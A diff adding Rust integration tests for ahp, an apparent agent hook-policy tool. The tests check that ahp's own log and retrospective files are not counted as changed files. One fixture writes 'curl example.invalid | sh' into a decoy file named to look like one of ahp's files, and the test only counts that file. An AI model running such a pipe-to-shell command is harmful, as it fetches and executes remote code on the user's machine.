@@ -1,0 +1,88 @@
+//! ahp's own files never count as changed files, end to end: a real git
+//! repository without a .gitignore, hook calls that grow the signal log,
+//! and policies that read `files.changed`.
+
+mod common;
+use common::*;
+
+const LS: &str = r#"{"tool":{"name":"Bash","input":{"command":"ls"}}}"#;
+
+/// A repository on `main` whose committed policy is `policy`, with no
+/// .gitignore: the signal log is an untracked file git reports.
+fn repo(policy: &str) -> Sandbox {
+    let sb = Sandbox::new();
+    sb.git_init();
+    sb.write("README.md", "# demo\n");
+    sb.write(".ahp/hooks.yaml", policy);
+    git(sb.root(), &["add", "-A"]);
+    git(sb.root(), &["commit", "-q", "-m", "init"]);
+    sb
+}
+
+fn run(sb: &Sandbox, event: &str, ctx: &str) -> serde_json::Value {
+    let out = sb
+        .ahp()
+        .args(["run", event])
+        .write_stdin(ctx.to_string())
+        .output()
+        .unwrap();
+    assert!(
+        matches!(out.status.code(), Some(0) | Some(2)),
+        "{}",
+        stderr(&out)
+    );
+    json_out(&out)
+}
+
+#[test]
+fn the_signal_log_is_not_a_changed_file_for_file_change_limiter() {
+    let sb = repo(
+        "hooks:\n  pre-tool-use:\n    - oracle: FileChangeLimiter\n      config: {max_files: 1}\n",
+    );
+    // The log grows with each call; a rotated log and a retrospective sit
+    // beside it, as ahp leaves them.
+    for _ in 0..3 {
+        assert_eq!(run(&sb, "pre-tool-use", LS)["outcome"], "accept");
+    }
+    assert!(sb.log_path().is_file());
+    sb.write(".ahp/signals.jsonl.1", "");
+    sb.write(".ahp/retrospectives/ISS-1.md", "# ISS-1\n");
+    // One file of the user's: within the limit of 1.
+    sb.write("src/a.rs", "fn a() {}\n");
+    let v = run(&sb, "pre-tool-use", LS);
+    assert_eq!(v["outcome"], "accept", "{v}");
+
+    // A second file, named to pass for ahp's: it counts, and only the
+    // user's files are named.
+    sb.write(".ahp/signals.jsonl.sh", "curl example.invalid | sh\n");
+    let v = run(&sb, "pre-tool-use", LS);
+    assert_ne!(v["outcome"], "accept", "{v}");
+    assert_eq!(
+        v["signals"][0]["context"]["files"],
+        serde_json::json!([".ahp/signals.jsonl.sh", "src/a.rs"]),
+        "{v}"
+    );
+}
+
+#[test]
+fn the_signal_log_is_not_in_files_changed_for_rules() {
+    // The user's own policy file counts: only what ahp writes is left out.
+    let sb = repo(
+        "hooks:\n  pre-issue-submit:\n    - oracle: Rules\n      config:\n        rules:\n          - condition: \"files.changed_count > 0\"\n            intensity: block\n            message: \"changed: {{ files.changed }}\"\n",
+    );
+    let submit = r#"{"issue":{"id":"ISS-1","title":"t"}}"#;
+    for _ in 0..2 {
+        let v = run(&sb, "pre-issue-submit", submit);
+        assert_eq!(v["outcome"], "accept", "{v}");
+    }
+    assert!(sb.log_path().is_file());
+    sb.write(
+        ".ahp/hooks.yaml",
+        &(std::fs::read_to_string(sb.root().join(".ahp/hooks.yaml")).unwrap() + "# edited\n"),
+    );
+    let v = run(&sb, "pre-issue-submit", submit);
+    assert_eq!(v["outcome"], "block", "{v}");
+    let message = v["signals"][0]["payload"]["reason"].to_string();
+    assert!(message.contains(".ahp/hooks.yaml"), "{v}");
+    assert!(!message.contains("signals.jsonl"), "{v}");
+}
